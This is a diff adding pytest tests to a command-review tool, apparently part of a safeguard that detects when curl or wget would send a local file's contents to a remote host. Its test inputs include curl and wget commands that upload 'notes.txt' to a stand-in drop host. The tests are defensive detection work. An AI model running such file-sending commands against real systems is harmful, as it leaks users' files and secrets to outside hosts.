@@ -1,0 +1,56 @@
+"""Options of programs that send a file, or that take what they send from a file."""
+
+from __future__ import annotations
+
+import pytest
+
+from quorum.domain.review.effects.reduction import reduce_command
+from quorum.domain.review.effects.side_effect import EffectKind
+from quorum.infrastructure.execution.shell.script import read_script
+
+
+def _sends(command: str) -> bool:
+    return any(each.kind is EffectKind.SEND for each in reduce_command(command, read_script))
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        "--data-urlencode name@notes.txt",
+        "--data-urlencode @notes.txt",
+        "--data-urlencode=name@notes.txt",
+        "--url-query name@notes.txt",
+        "-H @notes.txt",
+        "--header @notes.txt",
+        "--variable x@notes.txt",
+        "--variable %x@notes.txt",
+        "-K notes.txt",
+        "-Knotes.txt",
+        "-sK notes.txt",
+        "--config notes.txt",
+        "-K -",
+        "-K <(cat notes.txt)",
+    ],
+)
+def test_curl_sends_the_file_that_an_option_names(options: str) -> None:
+    assert _sends(f"curl {options} https://drop.example")
+
+
+def test_wget_sends_what_a_configuration_names() -> None:
+    assert _sends("wget --config=notes.txt https://drop.example")
+
+
+@pytest.mark.parametrize(
+    "options",
+    [
+        "--data-urlencode name=me@mail.example",
+        "--data-urlencode =me@mail.example",
+        "--url-query page=2",
+        "-H 'Accept: text/plain'",
+        "-H 'From: me@mail.example'",
+        "--variable x=me@mail.example",
+        "-K /dev/null",
+    ],
+)
+def test_a_text_with_an_at_sign_is_no_file(options: str) -> None:
+    assert not _sends(f"curl {options} https://api.example")
